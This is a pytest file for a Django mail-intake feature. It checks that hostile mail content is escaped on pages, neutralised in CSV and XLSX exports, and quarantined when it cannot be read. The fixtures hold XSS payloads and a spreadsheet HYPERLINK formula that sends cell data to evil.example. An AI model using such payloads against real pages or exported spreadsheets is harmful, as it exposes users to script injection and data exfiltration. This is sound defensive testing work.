"""Mails on the screen: what lies aside, and that nothing hostile in one that was taken in comes alive anywhere."""

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from taizhang.accounts.facts import Role
from taizhang.lib import clock
from taizhang.voice.actions.mailing import take_in_mail
from taizhang.voice.models import Mail, Message
from tests.factories import browser_of, make_person
from tests.voice.post import Post, mail, raw_mail, running

pytestmark = [pytest.mark.django_db, pytest.mark.today(date(2012, 7, 5))]

ALIVE = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点")'


@pytest.fixture
def _came(settings: Any, own_files: Path) -> None:
    """A mail that is hostile wherever it can be, one that is a formula, one that cannot be read."""
    hostile = mail(ALIVE, subject=ALIVE, From=f'"{ALIVE[:20]}" <a@evil.example>', files=[(f"{ALIVE}.exe", b"MZ")])
    formula = mail(FORMULA, subject="", Message_ID="<2@x>")
    unreadable = raw_mail(b"\xff\xfe\xfa\x81", content_type="text/plain; charset=gbk")
    with running(Post(hostile, formula, unreadable)) as post:
        for name, value in post.settings.items():
            setattr(settings, name, value)
        take_in_mail()


@pytest.mark.usefixtures("_came")
def test_nothing_in_a_mail_is_ever_part_of_a_page() -> None:
    officer, message = browser_of(make_person("officer", Role.OFFICER)), Message.objects.order_by("pk")[0]
    addresses = (f"/messages/{message.pk}/", f"/messages/{message.pk}/line/", "/messages/", "/", "/audit/")

    pages = [officer.get(address).content.decode() for address in addresses]

    assert [
        found for page in pages for found in ("<script>alert", "<img src=x", "onerror=alert(2)>") if found in page
    ] == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[0]


@pytest.mark.usefixtures("_came")
def test_a_formula_in_a_mail_is_a_word_in_every_export() -> None:
    officer = browser_of(make_person("officer", Role.OFFICER))

    text = officer.get("/messages/export.csv").content.decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(officer.get("/messages/export.xlsx").content)).active

    said = {row["Message"] for row in csv.DictReader(io.StringIO(text))}
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("=")}
    assert f"'{FORMULA}" in said
    assert cells == {FORMULA: "s"}


@pytest.mark.usefixtures("_came")
def test_a_mail_that_lies_aside_is_saved_as_bytes_and_looked_at_once() -> None:
    officer, aside = browser_of(make_person("officer", Role.OFFICER)), Mail.objects.get(fate="aside")

    before = officer.get("/messages/mail/")
    file = officer.get(f"/messages/mail/{aside.pk}/file/")
    once = officer.post(f"/messages/mail/{aside.pk}/seen/", follow=True)
    twice = officer.post(f"/messages/mail/{aside.pk}/seen/", follow=True)

    assert (before.context["waiting"], once.context["waiting"]) == (1, 0)
    assert (file.headers["Content-Type"], file.headers["Content-Disposition"]) == (
        "application/octet-stream",
        f'attachment; filename="mail-{aside.pk}.eml"',
    )
    assert b"\xff\xfe\xfa\x81" in file.content
    assert "Somebody has looked at this mail already." in twice.content.decode()


@pytest.mark.usefixtures("_came")
def test_the_unit_reads_that_a_file_was_left_out_only_through_the_office(settings: Any) -> None:
    chief, auditor = (browser_of(make_person(str(role), role)) for role in (Role.CHIEF, Role.AUDITOR))
    address = f"/messages/{Message.objects.order_by('pk')[0].pk}/"

    with clock.frozen(date(2012, 7, 6)):
        named = ["files left out" in each.get(address).content.decode() for each in (chief, auditor)]

    assert named == [True, False]
